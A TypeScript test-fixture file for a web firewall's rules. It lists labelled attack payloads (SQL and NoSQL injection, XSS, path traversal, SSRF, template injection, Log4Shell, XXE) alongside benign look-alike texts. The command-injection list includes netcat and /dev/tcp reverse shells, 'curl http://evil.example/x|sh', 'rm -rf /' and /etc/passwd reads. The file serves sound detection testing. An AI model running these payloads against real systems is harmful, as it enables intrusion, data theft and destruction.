// More samples for the tests of the baseline rules: the same classes of attack in other spellings, and texts of people, shops,
// forums and editors that look like them. Not used at run time.
import type { Sample } from './samples.ts';

const query = (kind: string, value: string): Sample => ({ kind, target: `/search?q=${encodeURIComponent(value)}` });
const form = (kind: string, value: string): Sample => ({ kind, target: '/post', body: `text=${encodeURIComponent(value).replaceAll('%20', '+')}` });
const json = (kind: string, value: unknown): Sample => ({ kind, target: '/api', type: 'application/json', body: Buffer.from(JSON.stringify({ value }),
  'utf8').toString('latin1') });
const header = (kind: string, name: string, value: string): Sample => ({ kind, target: '/', headers: [[name, value]] });

const asQueries = (kind: string, ...values: string[]): Sample[] => values.map((value) => query(kind, value));

export const moreAttacks: readonly Sample[] = [
  ...asQueries('sqli', "' OR 1=1#", '" or ""="', "1' AND '1'='1' --", "admin' #", "1) OR (1=1", "1 UNION ALL SELECT NULL,NULL,version()--", "';exec xp_cmdshell('dir')--",
    "1;WAITFOR DELAY '0:0:5'--", '1 AND (SELECT COUNT(*) FROM sysobjects)>0', "1' AND extractvalue(1,concat(0x7e,version()))-- -", '1 OR pg_sleep(5)--',
    "x' UNION/*!50000SELECT*/1,2#", "1'||(select 1 from dual)||'", "' or 'x' like 'x", '1 or updatexml(1,concat(0x7e,user()),1)', "1' ORDER BY 10--+",
    "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64", "'; INSERT INTO users VALUES('x','y')--", '1 procedure analyse(1,1)', "-1' HAVING 1=1--"),
  ...asQueries('nosqli', '{"$where":"sleep(1000)"}', "'; return true; var x='", '{"username":{"$ne":null}}'),
  { kind: 'nosqli', target: '/login?user[$regex]=.*&pass[$exists]=true' }, json('nosqli', { password: { $ne: '' } }),
  ...asQueries('xss', '<ScRiPt>alert(1)</sCrIpT>', '<body onload=alert(1)>', '"><svg onload=alert`1`>', "'-alert(1)-'", '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<img src=x:x onerror=alert(1)>', '<details open ontoggle=alert(1)>', '<math><a xlink:href=javascript:alert(1)>x', '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    '<base href=//evil.example/>', '<input autofocus onfocus=alert(1)>', '<style>@import "javascript:alert(1)"</style>', '<video><source onerror=alert(1)>',
    '"onmouseover="alert(1)', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<form action=javascript:alert(1)><input type=submit>'),
  json('xss', '<img src=x onerror=alert(1)>'), header('xss', 'Referer', 'https://a.example/"><script>alert(1)</script>'),
  ...asQueries('traversal', '..\\..\\..\\windows\\win.ini', '....//....//etc/passwd', '/var/www/../../etc/shadow', 'file.txt/../../../etc/hosts', '..;/..;/manager/html',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%afetc/passwd'),
  { kind: 'traversal', target: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' }, { kind: 'files', target: '/.aws/credentials' }, { kind: 'files', target: '/WEB-INF/web.xml' },
  { kind: 'files', target: '/.svn/entries' }, { kind: 'files', target: '/config.php.bak' }, { kind: 'files', target: '/phpinfo.php' }, { kind: 'files', target: '/.DS_Store' },
  ...asQueries('rce', '; cat /etc/passwd', '| nc -e /bin/sh 10.0.0.1 4444', '`id`', '$(curl http://evil.example/x|sh)', '& ping -c 10 127.0.0.1 &', "; python3 -c 'import os'",
    '|| wget http://evil.example/x', '; rm -rf /', '\nwhoami', '() { :; }; echo x', '& dir c:\\', 'cmd.exe /c whoami', '; ${IFS}cat${IFS}/etc/passwd', "c'a't /etc/passwd; ls",
    '| base64 -d | bash', '{cat,/etc/passwd}', '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'),
  ...asQueries('ssrf', 'http://[::1]/', 'http://127.1/', 'dict://127.0.0.1:11211/stat', 'http://0x7f000001/', 'http://2130706433/',
    'ldap://10.0.0.5/', 'http://169.254.169.254/computeMetadata/v1/', 'jar:http://evil.example/x!/', 'file:///c:/windows/win.ini'),
  ...asQueries('template', '${7*7}', '#{7*7}', '{{config.items()}}', "{{request['application']}}", '<%= 7*7 %>', '{%import os%}',
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '{{constructor.constructor("alert(1)")()}}', '*{7*7}', '@(1+2)', '{php}echo 1;{/php}', "<#assign ex='freemarker.template.utility.Execute'?new()>", '%{(#_memberAccess=1)}'),
  ...asQueries('log4shell', '${jndi:dns://evil.example/a}', '${${env:X:-j}ndi:rmi://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example}',
    '${ctx:loginId}${jndi:ldap://x/a}'),
  header('log4shell', 'User-Agent', '${jndi:ldap://evil.example/a}'), header('log4shell', 'X-Forwarded-For', '${jndi:ldaps://evil.example/a}'),
  ...asQueries('ldap', 'admin)(&)', '*)(objectClass=*)', 'x*)(|(password=*', '*)(uid=*))(|(uid=*'),
  { kind: 'xxe', target: '/x', type: 'text/xml', body: '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><r/>' },
  { kind: 'xxe', target: '/x', type: 'application/soap+xml', body: '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><lolz>&b;</lolz>' },
  ...asQueries('php', 'assert($_GET[1])', '<?=`id`?>', 'data://text/plain;base64,PD9waHA=', 'expect://id', 'phar://x.jpg', "create_function('','1')"),
  ...asQueries('node', 'require("child_process")', 'process.mainModule.require("fs")', '{"__proto__":{"admin":1}}'), { kind: 'node', target: '/?constructor[prototype][x]=1' },
  ...asQueries('java', 'java.lang.ProcessBuilder', 'org.springframework.context.support.ClassPathXmlApplicationContext', 'rO0ABXNyABdqYXZhLnV0aWw='),
  { kind: 'protocol', target: '/go?to=x%0d%0aLocation:%20http://evil.example' }, { kind: 'protocol', target: '/', headers: [['X-Test', 'a\0b']] },
  header('scanner', 'User-Agent', 'Nikto/2.5'), header('scanner', 'User-Agent', 'Mozilla/5.0 (compatible; Nuclei - Open-source project)'), header('scanner', 'User-Agent',
  'WPScan v3.8'),
  header('scanner', 'User-Agent', 'feroxbuster/2.10'), header('scanner', 'User-Agent', 'Fuzz Faster U Fool v2.1'),
];

/** Not enough by themselves: recorded, and they add to what else is found. */
export const noticed: readonly Sample[] = [
  ...asQueries('ssrf', 'http://127.0.0.1:8080/admin', 'http://localhost/server-status', 'http://192.168.1.1/cgi-bin/', 'http://user@10.1.2.3/'),
  query('php', 'O:4:"Test":1:{s:1:"a";i:1;}'),
];

const texts: readonly string[] = [
  "O'Brien", "D'Angelo & Sons", "L'Oréal", "Jeanne d'Arc or Robert O'Neil", "it's 5 o'clock", "rock 'n' roll", '"quoted" and \'single\'', "don't = do not",
  "men's or women's shoes",
  'Please select the best offer from our catalogue where available', 'I would drop the table off at 5 and update you', 'How to insert into a list in Python?',
  'select the union of both sets', 'What does GROUP BY do; and ORDER BY?', 'delete from cart', 'Use a LEFT JOIN instead of where exists', 'The union selected a new leader',
  'order by phone', 'having fun and sleeping (8 hours)', 'benchmark (2024) of laptops', 'AND/OR gates', '1 or 2 persons', 'x = 1 or y = 2', 'a like b or c like d',
  '3 > 2 and 2 > 1',
  'C# and .NET; Java or Kotlin', 'if (a < b && c > d) { return; }', 'for (let i = 0; i < 10; i++) sum += i;', 'price < 100 & size > 42', '<3 you', 'a <b> c', '1 < 2',
  'x->y', '<-- look',
  'I love <3 & hugs >:(', 'see you @ 10:30; bring cash', 'AT&T; H&M', 'Tom & Jerry', 'foo|bar', 'yes || no', 'cats; dogs; birds', 'cat; dog', 'Use ls to list files',
  'the id of the user',
  'ping me later', 'cost: $(5) or $5', '$100 (approx.)', '`code` in markdown', '`id` is the primary key', '**bold** and _italic_', '# heading', '- list\n- of\n- things',
  'tar czf backup.tar.gz folder',
  'curl is a tool; wget too', 'echo chamber', 'the shell /bin/bash is nice', 'run npm install && npm test', 'rm is short for remove', 'holiday photo (1).jpg',
  'report.final.v2.docx', 'archive.tar.gz',
  'C:\\Users\\anna\\Documents', '../images/logo.png', './start', '/home/anna/notes.txt', 'my..file..name', 'www.example.com/../', '24/7', 'and/or', '50%', '100% cotton',
  '%20', 'a%b',
  'https://www.example.com/a?b=c&d=e#f', 'http://blog.example.org/2024/01/select-from-the-best/', 'https://example.com/redirect?url=https%3A%2F%2Fother.example%2F',
  'mailto:anna@example.com',
  'tel:+431234567', 'ftp://files.example.org/pub', '//cdn.example.com/x.js', 'localhost is my machine', 'the loopback address', '{{ name }}', 'Dear {name},', '{"a": 1}',
  '[1,2,3]', '${name}', '#{id}',
  '<p>Hello <b>world</b></p>', '<ul><li>one</li><li>two</li></ul>', '<a href="https://example.com/">link</a>', '<br/>', '<img src="/cat.png" alt="A cat">',
  '<h1 class="title">News</h1>',
  'javascript is a language', 'JavaScript: The Good Parts', 'on = off', 'online=true', 'the option on=1', 'a "class" attribute', 'eval is evil', 'PHP system calls',
  'system (noun)', 'base64 decode online',
  'the require keyword', 'process.', 'my __init__ method', 'constructor of the class', 'prototype phase', 'java.util.List', 'java language', 'Runtime error',
  'class.name', 'node_modules', 'O:1', 'i:1;',
  'jndi is a naming interface', 'ldap://', '(a)(b)', '(&)', '*', '**', '(x | y) & z', 'uid=1000(anna)', 'cn=anna', 'DOCTYPE html', 'SYSTEM', '<?xml version="1.0"?>',
  'http/1.1', 'GET things done',
  'POST office', 'Set-Cookie recipe', 'Content-Type: what is it?', 'Location: Graz', 'naïve café', 'Ελληνικά', 'Привет', '日本語', '🎉🎉', 'straße', '1e10', '0x41', '-1',
  '1/2', "5'10\"", '--', '/* note */',
  '-- Anna', '#hashtag', 'a -- b', "Anna's -- well known -- cake", '@mention', '50$', '1;2;3', 'a=b;c=d', 'key: value', '=SUM(A1:A2)', '+43 316 123', "'", '"', "''",
  '()', '\\', '...', '?', '!',
];

/** What people write, in the places where they write it. */
export const moreOrdinary: readonly Sample[] = [
  ...texts.map((text) => query('ordinary', text)), ...texts.map((text) => form('ordinary', text)), ...texts.map((text) => json('ordinary', text)),
  { kind: 'ordinary', target: '/wiki/Select_(Unix)' }, { kind: 'ordinary', target: '/env/setup' }, { kind: 'ordinary', target: '/docs/.well-known/security.txt' },
  { kind: 'ordinary', target: '/.well-known/acme-challenge/abc' }, { kind: 'ordinary', target: '/users/7/edit?return=/users' },
  { kind: 'ordinary', target: '/git/config-examples' },
  { kind: 'ordinary', target: '/files/environment.ts' }, { kind: 'ordinary', target: '/?a[]=1&a[]=2&b[c]=3' }, { kind: 'ordinary', target: '/?filter[price][gte]=10' },
  header('ordinary', 'User-Agent', 'curl/8.5.0'), header('ordinary', 'User-Agent', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'),
  header('ordinary', 'Referer', 'https://www.google.com/search?q=select+*+from+users'), header('ordinary', 'Cookie', 'prefs={"theme":"dark"}; t=a|b|c; x=1%3D2'),
];
